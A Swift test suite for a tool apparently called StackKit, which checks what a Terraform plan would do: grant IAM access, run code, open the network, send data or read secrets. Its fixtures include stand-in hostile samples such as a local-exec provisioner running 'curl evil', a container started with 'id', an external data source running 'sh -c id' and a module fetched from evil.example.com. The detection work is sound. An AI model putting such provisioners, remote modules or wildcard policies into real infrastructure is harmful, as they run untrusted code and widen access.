import Foundation
import Templates
import Testing

@Suite("Consequences of a Terraform plan") struct TerraformConsequenceTests {
  /// One resource of a plan, in JSON.
  struct Resource: Sendable {
    let type: String
    /// The planned values.
    var values = "{}"
    /// The arguments in the configuration.
    var expressions = "{}"
    var unknown = "{}"
    var actions = #"["create"]"#
    /// More members of its configuration.
    var more = ""
  }

  /// The consequences of a plan of resources `TYPE.x`, with more members of its root module and of its configuration.
  static func consequences(
    _ resources: [Resource], root: String = #""variables": {}"#, providers: String = "{}"
  ) throws -> [String] {
    let names = resources.map { #""address": "\#($0.type).x", "mode": "managed", "type": "\#($0.type)", "name": "x""# }
    let kept = zip(names, resources).filter { !$1.actions.contains("delete\"]") }
    let text = """
      {"format_version": "1.2", "variables": {"image": {"value": "given"}},
       "planned_values": {"root_module": {"resources": [\(kept.map { "{\($0), \"values\": \($1.values)}" }.joined(separator: ","))]}},
       "resource_changes": [\(zip(names, resources).map {
         "{\($0), \"change\": {\"actions\": \($1.actions), \"after_unknown\": \($1.unknown)}}"
       }.joined(separator: ","))],
       "configuration": {"provider_config": \(providers), "root_module": {\(root), "resources": [\(zip(names, resources)
         .map { "{\($0), \"expressions\": \($1.expressions)\($1.more)}" }.joined(separator: ","))]}}}
      """
    let plan = try TerraformPlan(Data(text.utf8))
    return Consequence.all(of: plan.changes, in: plan, imageVariables: ["image"], account: "123456789012")
      .map(\.description)
  }

  struct Case: Sendable, CustomTestStringConvertible {
    let testDescription: String
    let resources: [Resource]
    let consequences: [String]

    init(_ description: String, _ resources: Resource..., gives consequences: [String]) {
      testDescription = description
      self.resources = resources
      self.consequences = consequences
    }
  }

  private static let role = Resource(
    type: "aws_iam_role", values: #"{"assume_role_policy": "{\"Statement\":[]}"}"#,
    expressions: #"{"assume_role_policy": {}}"#,
    // Computed by the provider: no inline policies and no managed ones.
    unknown: #"{"arn": true, "id": true, "inline_policy": true, "managed_policy_arns": true}"#)

  static let cases = [
    Case(
      "a policy of a role, and one that is known later", role,
      Resource(
        type: "aws_iam_role_policy",
        values: #"{"policy": "{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"}"#,
        expressions: #"{"policy": {}, "role": {"references": ["aws_iam_role.x.id", "aws_iam_role.x"]}}"#,
        unknown: #"{"id": true, "role": true}"#),
      Resource(
        type: "aws_iam_user_policy", values: #"{"user": "root"}"#,
        expressions: #"{"policy": {"references": ["var.p"]}, "user": {"constant_value": "root"}}"#,
        unknown: #"{"policy": true}"#),
      gives: [
        "grants access: aws_iam_role.x: every action on every resource",
        "grants access: aws_iam_user_policy.x: for root, which the template does not have; unknown policy",
      ]),
    Case(
      "a policy of a role that exists; an expression that names another one",
      Resource(
        type: "aws_iam_role", values: #"{"name": "ops", "assume_role_policy": ""}"#, actions: #"["no-op"]"#),
      Resource(
        type: "aws_iam_role_policy_attachment", values: #"{"policy_arn": "a/B", "role": "ops"}"#,
        expressions: #"{"policy_arn": {}, "role": {"references": ["aws_iam_role.x.name", "aws_iam_role.x"]}}"#),
      Resource(
        type: "aws_iam_role_policy", values: #"{"policy": "{}", "role": "admin"}"#,
        expressions: #"{"policy": {}, "role": {"references": ["aws_iam_role.x.name", "aws_iam_role.x"]}}"#),
      gives: [
        "grants access: aws_iam_role_policy.x: for admin, which the template does not have",
        "grants access: aws_iam_role.x: policy B",
      ]),
    Case(
      "a policy of AWS, and an attachment to a role elsewhere",
      Resource(
        type: "aws_iam_role_policy_attachment",
        values: #"{"policy_arn": "arn:aws:iam::aws:policy/AdministratorAccess", "role": "ops"}"#,
        expressions: #"{"policy_arn": {}, "role": {}}"#),
      gives: [
        "grants access: aws_iam_role_policy_attachment.x: policy AdministratorAccess; for ops, which the template does "
          + "not have"
      ]),
    Case(
      "trust in another account",
      Resource(
        type: "aws_iam_role",
        values:
          #"{"assume_role_policy": "{\"Statement\":{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":[\"999999999999\",\"arn:aws:iam::123456789012:root\"]},\"Action\":\"sts:AssumeRole\"}}"}"#,
        expressions: #"{"assume_role_policy": {}}"#),
      gives: ["grants access: aws_iam_role.x: account 999999999999, the account's identities: sts:AssumeRole"]),
    Case(
      "code, by the names of CloudFormation or others",
      Resource(type: "aws_lambda_function", values: #"{"filename": "f.zip"}"#),
      Resource(type: "aws_cloudwatch_event_target", values: #"{"arn": "arn:aws:lambda:us-east-1:1:function:f"}"#),
      Resource(type: "aws_sfn_state_machine"), Resource(type: "aws_codebuild_project"),
      gives: [
        "runs code: aws_lambda_function.x: f.zip",
        "runs code: aws_cloudwatch_event_target.x: arn:aws:lambda:us-east-1:1:function:f",
        "runs code: aws_sfn_state_machine.x", "runs code: aws_codebuild_project.x",
      ]),
    Case(
      "containers: the image of the manifest's variable is given",
      Resource(
        type: "aws_ecs_task_definition",
        values:
          #"{"container_definitions": "[{\"name\":\"a\",\"image\":\"given\",\"command\":null},{\"name\":\"b\",\"image\":\"evil\",\"command\":[\"id\"]}]"}"#,
        expressions: #"{"container_definitions": {}}"#),
      gives: ["runs code: aws_ecs_task_definition.x: container b runs evil; container b starts with id"]),
    Case(
      "containers that are known later",
      Resource(
        type: "aws_ecs_task_definition", expressions: #"{"container_definitions": {"references": ["var.x"]}}"#,
        unknown: #"{"container_definitions": true}"#),
      gives: ["runs code: aws_ecs_task_definition.x: containers that are not known"]),
    Case(
      "the network",
      Resource(
        type: "aws_vpc_security_group_ingress_rule",
        values:
          #"{"ip_protocol": "tcp", "from_port": 22, "to_port": 22, "cidr_ipv4": "0.0.0.0/0", "prefix_list_id": null}"#),
      Resource(
        type: "aws_security_group",
        values: #"{"ingress": [{"protocol": "-1", "cidr_blocks": ["10.0.0.0/8"], "ipv6_cidr_blocks": ["::/0"]}]}"#),
      Resource(type: "aws_lb", values: #"{"internal": true}"#),
      Resource(type: "aws_alb", values: #"{"internal": false}"#),
      gives: [
        "opens the network: aws_vpc_security_group_ingress_rule.x: tcp 22 from anywhere",
        "opens the network: aws_security_group.x: all traffic from anywhere",
        "opens the network: aws_alb.x: reachable from the internet",
      ]),
    Case(
      "unknown types", Resource(type: "aws_brand_new_thing"), Resource(type: "null_resource"),
      gives: [
        "is not judged: aws_brand_new_thing.x: StackKit does not know the type",
        "is not judged: null_resource.x: StackKit does not know the type",
      ]),
    Case(
      "programs on this machine",
      Resource(
        type: "terraform_data",
        more:
          #", "provisioners": [{"type": "local-exec", "expressions": {"command": {"constant_value": "curl evil"}}}]"#),
      Resource(type: "aws_vpc", more: #", "provisioners": [{"type": "remote-exec"}]"#),
      gives: [
        "runs code: terraform_data.x: provisioner local-exec curl evil",
        "runs code: aws_vpc.x: provisioner remote-exec",
      ]),
    Case(
      "what does not change, and what is removed", Resource(type: "aws_lambda_function", actions: #"["no-op"]"#),
      Resource(type: "aws_iam_access_key", actions: #"["delete"]"#), Resource(type: "terraform_data"), gives: []),
  ]

  @Test("every consequence is named, the gravest first", arguments: cases)
  func named(_ example: Case) throws {
    let root = #""variables": {"image": {}}"#
    let found = try Self.consequences(example.resources, root: root)
    #expect(found == example.consequences)
  }

  @Test("providers that act for others, elsewhere or on this machine")
  func providers() throws {
    let aws = #""full_name": "registry.terraform.io/hashicorp/aws""#
    let providers = """
      {"aws": {\(aws), "expressions": {"region": {}, "default_tags": [{}]}},
       "aws.b": {\(aws), "expressions": {"assume_role": [{}], "endpoints": [{}]}},
       "t": {"full_name": "terraform.io/builtin/terraform"}, "n": {"full_name": "registry.terraform.io/hashicorp/null"}}
      """
    #expect(
      try Self.consequences([], providers: providers) == [
        "grants access: provider aws.b: acts for others: assume_role",
        "runs code: provider registry.terraform.io/hashicorp/null: on this machine",
        "sends data: provider aws.b: its requests go elsewhere: endpoints",
      ])
  }

  @Test("modules, at any depth, and data sources that run, send or read")
  func modules() throws {
    func source(_ type: String, _ expressions: String) -> String {
      #"{"address": "data.\#(type).x", "mode": "data", "type": "\#(type)", "name": "x", "expressions": \#(expressions)}"#
    }
    let inner = source("external", #"{"program": {"constant_value": ["sh", "-c", "id"]}}"#)
    let outer = [
      source("http", #"{"url": {}}"#), source("aws_secretsmanager_secret_version", "{}"), source("aws_region", "{}"),
      source("terraform_remote_state", #"{"backend": {"constant_value": "http"}}"#),
      source("aws_lambda_invocation", #"{"function_name": {"constant_value": "f"}}"#),
    ].joined(separator: ",")
    let root = """
      "module_calls": {"a": {"source": "./a", "module": {"resources": [\(outer)],
        "module_calls": {"b": {"source": "git::https://evil.example.com/b", "module": {"resources": [\(inner)]}}}}}}
      """
    #expect(
      try Self.consequences([], root: root) == [
        "runs code: module.a.module.b.data.external.x: when it plans: sh -c id",
        "runs code: module.a.data.aws_lambda_invocation.x: when it plans: f",
        "deploys other templates: module.a: ./a",
        "deploys other templates: module.a.module.b: git::https://evil.example.com/b",
        "passes on secrets: module.a.data.aws_secretsmanager_secret_version.x: reads secrets into the configuration and "
          + "the state",
        "sends data: module.a.data.http.x: when it plans: a computed address",
        "sends data: module.a.data.terraform_remote_state.x: reads another state: http",
      ])
  }
}
